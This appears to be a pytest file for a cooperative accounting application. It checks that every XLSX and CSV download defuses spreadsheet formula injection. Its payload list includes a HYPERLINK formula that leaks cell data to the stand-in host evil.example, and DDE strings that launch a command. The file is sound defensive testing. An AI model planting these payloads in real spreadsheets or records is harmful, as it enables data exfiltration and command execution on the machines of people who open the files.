"""Formula injection ("CSV Injection", OWASP) through every spreadsheet the application hands out.

Member names, labour workers' names, payees, memos, the entity's and the township's names, the auditor's
name and the auditor's opinions are given texts that start with each of the six characters a spreadsheet
takes for the start of a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return). Every XLSX and CSV
download is then fetched through its page, as the auditor and the accountant fetch it, and read back: no
cell is a formula (openpyxl's ``data_type`` and no ``<f>`` element in any sheet's XML), no CSV field starts
with a trigger (a leading ``'`` neutralises it), every text is there, intact, and numbers are numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from samples import POLICY_70_30
from sqlalchemy import select

from cooperatives.models import Entity, Expense, Household, LaborRecord, Township, User
from ledger.cells import FORMULA_TRIGGERS, csv_field, is_formula_like, save_workbook
from payouts.models import AuditOpinion
from payouts.oversight.exports import to_csv, to_xlsx
from payouts.oversight.tables import Column, Table
from payouts.reports.statutory import NAMES, form_of

REPORTS = [name for name in NAMES if form_of(name, "fpc2021")]      # WX's (a cooperative's)

#: one text per trigger; each would be a live formula (or a DDE command) in a spreadsheet
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
OVERSIGHT = ("overview", "runs", "anomalies", "linkage", "integrity", "opinions")
SHEET_XML = re.compile(r"^xl/worksheets/sheet\d+\.xml$")


def test_every_payload_starts_with_a_trigger():
    assert sorted(p[0] for p in PAYLOADS) == sorted(FORMULA_TRIGGERS)


def _workbook() -> dict:
    """The worked example as entity WX of township 甲乡 (audited by the world's ``aud_a``), with six member
    households, a month of 40 labour days for each worker, and six expenses with a payee and a note."""
    from samples import worked_example_workbook

    sheets = worked_example_workbook(code="WX", township="甲乡")
    sheets["households"] = [sheets["households"][0]] + [[f"H00{i}", f"户主{i}", "一村"] for i in range(1, 7)]
    sheets["members"] = [sheets["members"][0]] + [[f"H00{i}", i, "2020-01-01"] for i in range(1, 7)]
    sheets["labor"] = [["date", "member", "worker", "days", "rate", "task"]] + [
        [f"2025-04-{d:02d}", f"H00{i}", f"工人{i}", 20, 100, "采茶"] for i in range(1, 7) for d in (1, 2)]
    sheets["expenses"] = [["date", "category", "amount", "payee", "note"], [*sheets["expenses"][1], None, None]] + [
        ["2025-07-01", "management", 100 + i, f"收款人{i}", f"备注{i}"] for i in range(1, 7)]
    return sheets


@pytest.fixture
def hostile(app, world, session, cli, xlsx, policy_file, login, post_form):
    """Entity WX in township 甲乡: member names, workers, payees and notes carry the payloads, so do the
    entity's and the township's names and the auditor's; a published 70/30 run for 2025; six audit opinions,
    one per payload. Everything goes in through the import, the command line and the auditor's page; what no
    door lets in (a leading tab or line end: every door trims) is written into the rows directly."""
    result = cli("import", xlsx(_workbook()))
    assert result.exit_code == 0, result.output
    wx = session.scalar(select(Entity).where(Entity.code == "WX"))
    for i, payload in enumerate(PAYLOADS, 1):
        session.scalar(select(Household).where(Household.code == f"H00{i}")).head_name = payload
        for labour in session.scalars(select(LaborRecord).where(LaborRecord.worker == f"工人{i}")):
            labour.worker = payload
        expense = session.scalar(select(Expense).where(Expense.payee == f"收款人{i}"))
        expense.payee, expense.note = payload, payload
    session.commit()
    out = json.loads(cli("distribute", "--entity", "WX", "--year", "2025", "--policy", policy_file(POLICY_70_30),
                         "--json").stdout)
    for command in (("approve", str(out["run"]), "--meeting-date", "2026-03-01", "--attended", "6", "--votes-for", "6"),
                    ("post", str(out["run"])), ("publish", str(out["run"]))):
        assert cli("run", *command).exit_code == 0, command
    wx = session.scalar(select(Entity).where(Entity.code == "WX"))        # the commands closed the session
    wx.name = PAYLOADS[3]
    session.get(Township, wx.township_id).name = PAYLOADS[2]
    auditor = session.scalar(select(User).where(User.username == "aud_a"))
    auditor.display_name = PAYLOADS[0]
    session.commit()
    client = app.test_client()
    login(client, "aud_a")
    for year, payload in enumerate(PAYLOADS, 2020):
        if payload == payload.strip():
            response = post_form(client, "/oversight/opinions", {"entity": "WX", "year": str(year),
                                                                  "verdict": "issues", "text": payload})
            assert response.status_code == 302, response.status_code
        else:
            session.add(AuditOpinion(entity_id=wx.id, year=year, verdict="issues", text=payload, auditor_id=auditor.id))
    session.commit()
    return wx


def _downloads(client, login) -> dict[str, bytes]:
    """Every spreadsheet download there is: the auditor's six tables as XLSX and CSV, the four statutory
    reports as XLSX."""
    out = {}
    login(client, "aud_a")
    for name in OVERSIGHT:
        for fmt in ("xlsx", "csv"):
            response = client.get(f"/oversight/export/{name}.{fmt}?year=2025")
            assert response.status_code == 200, (name, fmt, response.status_code)
            out[f"{name}.{fmt}"] = response.data
    reports = client.application.test_client()
    login(reports, "admin")
    for name in REPORTS:
        response = reports.get(f"/e/WX/reports/2025/{name}.xlsx")
        assert response.status_code == 200, (name, response.status_code)
        out[f"{name}.xlsx"] = response.data
    return out


def _formula_elements(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(len(re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(n))) for n in archive.namelist()
                   if SHEET_XML.match(n))


def _cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _read_back(text: str) -> str:
    """What XML keeps of a text: a carriage return is read back as a line feed (XML 1.0 §2.11)."""
    return text.replace("\r", "\n")


def test_no_export_holds_a_formula_and_every_text_is_intact(client, login, hostile):
    files = _downloads(client, login)
    assert len(files) == 2 * len(OVERSIGHT) + len(REPORTS) == 17      # (the 2021 附注 is a report too)
    texts: dict[str, list[str]] = {}
    formulas, defused, numbers = 0, 0, []
    for name, data in files.items():
        if name.endswith(".xlsx"):
            formulas += _formula_elements(data)
            cells = _cells(data)
            formulas += sum(c.data_type == "f" for c in cells)
            assert not [c.coordinate for c in cells if c.data_type == "e"], name
            risky = [c for c in cells if is_formula_like(c.value) or (isinstance(c.value, str) and c.value[:1] == "\n")]
            assert all(c.data_type == "s" and c.quotePrefix for c in risky), name
            defused += len(risky)
            texts[name] = [c.value for c in cells if isinstance(c.value, str)]
            numbers += [c.value for c in cells if c.data_type == "n" and c.value is not None]
        else:
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
            fields = [f for row in rows for f in row]
            assert not [f for f in fields if is_formula_like(f)], name
            texts[name] = [f[1:] if f.startswith("'") and is_formula_like(f[1:]) else f for f in fields]
            defused += sum(f.startswith("'") and is_formula_like(f[1:]) for f in fields)
    assert formulas == 0
    # every payload is there, whole: member names (member accounts), workers (anomalies), opinions and the
    # auditor's name (opinions), the entity's name (every table of entities)
    expected = {"member-accounts.xlsx": PAYLOADS, "opinions.xlsx": (*PAYLOADS, PAYLOADS[3]),
                "opinions.csv": (*PAYLOADS, PAYLOADS[3]), "overview.xlsx": (PAYLOADS[3],),
                "overview.csv": (PAYLOADS[3],), "runs.csv": (PAYLOADS[3],)}
    for name, payloads in expected.items():
        shown = texts[name] if name.endswith(".csv") else [_read_back(t) for t in texts[name]]
        for payload in payloads:
            want = payload if name.endswith(".csv") else _read_back(payload)
            assert want in shown, (name, payload)
    for name in ("anomalies.xlsx", "anomalies.csv"):
        shown = texts[name] if name.endswith(".csv") else [_read_back(t) for t in texts[name]]
        for payload in PAYLOADS:               # the finding's detail starts with the worker's name
            want = payload if name.endswith(".csv") else _read_back(payload)
            assert any(t.startswith(want + "（H00") for t in shown), (name, payload)
    assert any(t.startswith(_read_back(PAYLOADS[2])) for t in texts["overview.xlsx"])     # the township
    assert numbers and any(isinstance(n, int | float) and n < 0 for n in numbers)      # a loss stays a number
    assert defused >= 100
    print(f"{len(PAYLOADS)} dangerous first characters x {len(files)} exports: {defused} cells and fields that "
          f"start with one, {formulas} formulas")


def test_the_csv_of_a_table_neutralises_text_and_keeps_numbers():
    """The oversight exporter on a table of its own: text with a trigger gets a quote, a negative amount
    or count stays a number, in CSV and in XLSX."""
    table = Table((Column("name", "Name"), Column("amount", "Amount", "money", total=True),
                   Column("count", "Count", "int", total=True)))
    table.rows = [{"name": p, "amount": Decimal("-12.50"), "count": -3} for p in PAYLOADS]
    table.with_totals()
    rows = list(csv.reader(io.StringIO(to_csv(table, gettext=str).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert {(r[1], r[2]) for r in rows[1:-1]} == {("-12.50", "-3")}
    assert rows[-1][1:] == ["-75.00", "-18"]
    cells = _cells(to_xlsx(table, title="=t", subtitle="-s", gettext=str))
    values = {c.coordinate: c for c in cells}
    assert values["A1"].value == "=t" and values["A1"].data_type == "s" and values["A2"].data_type == "s"
    assert [values[f"A{r}"].value for r in range(4, 10)] == [_read_back(p) for p in PAYLOADS]
    assert {(values[f"B{r}"].value, values[f"B{r}"].data_type, values[f"C{r}"].value) for r in range(4, 10)} \
        == {(-12.5, "n", -3)}


def test_the_rule_itself():
    assert [csv_field(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert csv_field(Decimal("-1.50"), "-1.50") == "-1.50" and csv_field(-3) == "-3"
    assert csv_field("-") == "'-" and csv_field("王=1") == "王=1" and csv_field(None) == ""
    assert csv_field(True, "是") == "是"
    book = openpyxl.Workbook()
    for row, value in enumerate((*PAYLOADS, "#N/A", "=", Decimal("-5"), -5, dt.date(2025, 1, 2), "普通"), 1):
        book.active.cell(row, 1, value)
    data = save_workbook(book)
    assert _formula_elements(data) == 0
    cells = _cells(data)
    assert [c.data_type for c in cells] == ["s"] * 8 + ["n", "n", "d", "s"]
    assert [c.value for c in cells[:6]] == [_read_back(p) for p in PAYLOADS]


WRITES_A_SPREADSHEET = re.compile(r"from openpyxl import [^\n]*\bWorkbook\b|openpyxl\.Workbook\(|csv\.(?:writer|DictWriter)\(")
#: writers that hand nothing out: the demo writes an import workbook that the importer reads straight back
NOT_EXPORTS = {"cooperatives/demo.py"}


def test_every_spreadsheet_writer_goes_through_ledger_cells():
    """A new XLSX or CSV exporter that does not write through ``ledger.cells`` fails here."""
    root = Path(__file__).resolve().parents[2]
    writers = {str(p.relative_to(root)) for package in ("ledger", "cooperatives", "payouts")
               for p in (root / package).rglob("*.py") if WRITES_A_SPREADSHEET.search(p.read_text(encoding="utf-8"))}
    assert {"payouts/oversight/exports.py", "payouts/reports/statutory.py"} <= writers
    unguarded = [w for w in sorted(writers - NOT_EXPORTS)
                 if "from ledger.cells import" not in (root / w).read_text(encoding="utf-8")]
    assert unguarded == []
